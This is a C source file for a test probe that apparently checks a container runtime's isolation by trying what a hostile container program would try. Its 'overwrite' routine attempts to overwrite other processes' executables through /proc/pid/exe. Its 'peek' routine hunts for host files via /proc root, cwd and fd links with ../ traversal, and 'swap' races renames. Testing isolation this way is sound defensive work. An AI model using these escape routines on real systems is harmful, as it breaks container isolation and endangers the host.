/*
 * What a hostile program in a container tries. Built static, so that it runs in any image.
 *
 *   probe call NR [ARG…]      a system call by number; prints its result, or "-" and the error's number. An argument is a
 *                             number, or @TEXT for the address of a text
 *   probe call32 NR [ARG…]    the same through the 32-bit entry, numbers only
 *   probe fds                 the descriptors it was started with, and what they are
 *   probe ids                 real, effective user and group, then all groups
 *   probe overwrite ROUNDS    as pid 1 looks for processes that run another program than its own and writes to that program
 *   probe peek ROUNDS PATH    as pid 1 looks for a file of the host's through the roots, folders and descriptors of others
 *   probe swap A B COUNT      exchanges two names that often
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static long number(const char *text) {
    return text[0] == '@' ? (long)(text + 1) : strtol(text, NULL, 0);
}

static long call32(long nr, long *a) {
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(nr), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]), "D"(a[4])
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

static void call(int count, char **words) {
    long a[6] = {0, 0, 0, 0, 0, 0}, result;
    for (int i = 2; i < count && i < 8; i++) a[i - 2] = number(words[i]);
    if (strcmp(words[0], "call32") == 0) {
        result = call32(number(words[1]), a);
    } else {
        result = syscall(number(words[1]), a[0], a[1], a[2], a[3], a[4], a[5]);
        if (result < 0) result = -errno;
    }
    printf("%ld\n", result);
    fflush(stdout);
}

static void fds(void) {
    for (int fd = 0; fd < 4096; fd++) {
        char path[64], target[4096];
        if (fcntl(fd, F_GETFD) < 0) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        printf("%d %.*s\n", fd, n < 0 ? 1 : (int)n, n < 0 ? "?" : target);
    }
}

static void ids(void) {
    gid_t groups[256];
    int count = getgroups(256, groups);
    printf("%d %d %d %d", getuid(), geteuid(), getgid(), getegid());
    for (int i = 0; i < count; i++) printf(" %d", groups[i]);
    printf("\n");
}

/* A program cannot be written while it runs: hold it open and try again when it has ended. */
static int overwritten(int program) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (int i = 0; i < 200; i++) {
        int out = open(path, O_WRONLY | O_CLOEXEC);
        if (out >= 0) {
            int done = pwrite(out, "#!broken", 8, 0) == 8;
            close(out);
            if (done) return 1;
        }
        usleep(1000);
    }
    return 0;
}

static void overwrite(long rounds) {
    char own[4096], other[4096], path[300];
    int seen = 0;
    ssize_t length = readlink("/proc/self/exe", own, sizeof own);
    puts("ready");
    fflush(stdout);
    for (long r = 0; r < rounds; r++) {
        DIR *proc = opendir("/proc");
        for (struct dirent *e; (e = readdir(proc)) != NULL;) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            int program = open(path, O_RDONLY | O_CLOEXEC);
            if (program < 0) continue;
            char self[64];
            snprintf(self, sizeof self, "/proc/self/fd/%d", program);
            ssize_t n = readlink(self, other, sizeof other);
            if (n > 0 && (n != length || memcmp(own, other, n) != 0) && memcmp(other, "/bin/", 5) != 0) {
                if (!seen) printf("saw %.*s\n", (int)n, other);
                seen = 1;
                if (overwritten(program)) {
                    printf("overwritten %.*s\n", (int)n, other);
                    fflush(stdout);
                    _exit(0);
                }
            }
            close(program);
        }
        closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0) continue;
    }
    puts("nothing overwritten");
    fflush(stdout);
}

/* In the moment between its birth and its program a process of the runtime could still hold on to the host. */
static void peek(long rounds, const char *file) {
    static const char up[] = "../../../../../../../../../../../../../../../..";
    char path[4400];
    puts("ready");
    fflush(stdout);
    for (long r = 0; r < rounds; r++) {
        DIR *proc = opendir("/proc");
        for (struct dirent *e; (e = readdir(proc)) != NULL;) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
            for (int fd = -2; fd < 24; fd++) {
                if (fd == -2) snprintf(path, sizeof path, "/proc/%s/root/%s", e->d_name, file);
                else if (fd == -1) snprintf(path, sizeof path, "/proc/%s/cwd/%s/%s", e->d_name, up, file);
                else snprintf(path, sizeof path, "/proc/%s/fd/%d/%s/%s", e->d_name, fd, up, file);
                if (access(path, F_OK) == 0) {
                    printf("found %s\n", path);
                    fflush(stdout);
                    _exit(0);
                }
            }
        }
        closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0) continue;
    }
    puts("nothing found");
    fflush(stdout);
}

int main(int count, char **words) {
    const char *verb = count > 1 ? words[1] : "";
    if (strcmp(verb, "call") == 0 || strcmp(verb, "call32") == 0) call(count - 1, words + 1);
    else if (strcmp(verb, "fds") == 0) fds();
    else if (strcmp(verb, "ids") == 0) ids();
    else if (strcmp(verb, "overwrite") == 0) overwrite(number(words[2]));
    else if (strcmp(verb, "peek") == 0) peek(number(words[2]), words[3]);
    else if (strcmp(verb, "swap") == 0) {
        for (long i = number(words[4]); i > 0; i--)
            syscall(SYS_renameat2, AT_FDCWD, words[2], AT_FDCWD, words[3], 2 /* RENAME_EXCHANGE */);
    } else return 2;
    return 0;
}
